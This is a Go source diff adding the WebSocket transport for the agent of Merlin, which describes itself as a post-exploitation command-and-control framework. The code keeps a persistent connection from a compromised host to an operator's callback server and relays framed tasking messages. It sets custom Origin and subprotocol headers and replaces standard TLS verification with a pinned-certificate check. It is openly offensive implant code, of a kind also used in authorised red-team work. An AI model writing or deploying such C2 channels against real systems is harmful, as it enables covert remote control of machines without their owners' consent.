@@ -0,0 +1,150 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2019  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package agent
+
+import (
+	// Standard
+	"bytes"
+	"crypto/tls"
+	"fmt"
+	"io/ioutil"
+	"net"
+	"net/http"
+	"strconv"
+	"sync"
+	"time"
+
+	// 3rd Party
+	"golang.org/x/net/websocket"
+
+	// Merlin
+	"github.com/Ne0nd0g/merlin/pkg/framing"
+)
+
+// wsTransport is a http.RoundTripper that sends the agent's messages to a Merlin WebSocket listener over a single
+// long-lived WebSocket connection. The request URL is ws://<host>:<port>/<path> or wss:// for TLS; the subprotocol
+// and origin query parameters set the Sec-WebSocket-Protocol and Origin headers sent when the connection is opened.
+type wsTransport struct {
+	sync.Mutex
+	conn *websocket.Conn
+	url  string // The callback URL the connection belongs to
+}
+
+// RoundTrip sends the request as a WebSocket message and reads the server's response message
+func (t *wsTransport) RoundTrip(req *http.Request) (*http.Response, error) {
+	t.Lock()
+	defer t.Unlock()
+
+	var body []byte
+	var err error
+	if req.Body != nil {
+		body, err = ioutil.ReadAll(req.Body)
+		_ = req.Body.Close()
+		if err != nil {
+			return nil, fmt.Errorf("there was an error reading the message body:\r\n%s", err.Error())
+		}
+	}
+	// The agent rotated to another callback URL
+	if t.url != req.URL.String() {
+		t.close()
+		t.url = req.URL.String()
+	}
+	if t.conn == nil {
+		if t.conn, err = t.connect(req); err != nil {
+			return nil, fmt.Errorf("there was an error opening the WebSocket connection:\r\n%s", err.Error())
+		}
+	}
+
+	// Drop the connection on any error so the next message starts with a new one
+	if err = websocket.Message.Send(t.conn, framing.PackRequest(req.Header.Get("Authorization"), body)); err != nil {
+		t.close()
+		return nil, fmt.Errorf("there was an error writing the message to the WebSocket connection:\r\n%s", err.Error())
+	}
+	var data []byte
+	if err = websocket.Message.Receive(t.conn, &data); err != nil {
+		t.close()
+		return nil, fmt.Errorf("there was an error reading the response from the WebSocket connection:\r\n%s", err.Error())
+	}
+	status, response, err := framing.UnpackResponse(data)
+	if err != nil {
+		t.close()
+		return nil, err
+	}
+
+	return &http.Response{
+		Status:        strconv.Itoa(status) + " " + http.StatusText(status),
+		StatusCode:    status,
+		Proto:         "WebSocket",
+		Header:        http.Header{"Content-Type": []string{"application/octet-stream"}},
+		Body:          ioutil.NopCloser(bytes.NewReader(response)),
+		ContentLength: int64(len(response)),
+		Request:       req,
+	}, nil
+}
+
+// connect opens the WebSocket connection with the subprotocol and origin from the request URL
+func (t *wsTransport) connect(req *http.Request) (*websocket.Conn, error) {
+	u := *req.URL
+	q := u.Query()
+	subprotocol := q.Get("subprotocol")
+	origin := q.Get("origin")
+	q.Del("subprotocol")
+	q.Del("origin")
+	u.RawQuery = q.Encode()
+
+	// Browsers send the page's origin; without one configured, use the server's own
+	if origin == "" {
+		origin = "http://" + u.Host
+		if u.Scheme == "wss" {
+			origin = "https://" + u.Host
+		}
+	}
+
+	config, err := websocket.NewConfig(u.String(), origin)
+	if err != nil {
+		return nil, err
+	}
+	if subprotocol != "" {
+		config.Protocol = []string{subprotocol}
+	}
+	if ua := req.Header.Get("User-Agent"); ua != "" {
+		config.Header.Set("User-Agent", ua)
+	}
+	config.TlsConfig = &tls.Config{
+		MinVersion:            tls.VersionTLS12,
+		InsecureSkipVerify:    true, // #nosec G402 - see https://github.com/Ne0nd0g/merlin/issues/59 TODO fix this
+		VerifyPeerCertificate: pinned.verify,
+		NextProtos:            []string{"http/1.1"},
+	}
+	config.Dialer = &net.Dialer{Timeout: 30 * time.Second}
+
+	conn, err := websocket.DialConfig(config)
+	if err != nil {
+		return nil, err
+	}
+	conn.MaxPayloadBytes = framing.MaxLength
+	return conn, nil
+}
+
+// close closes and forgets the current connection
+func (t *wsTransport) close() {
+	if t.conn != nil {
+		_ = t.conn.Close()
+		t.conn = nil
+	}
+}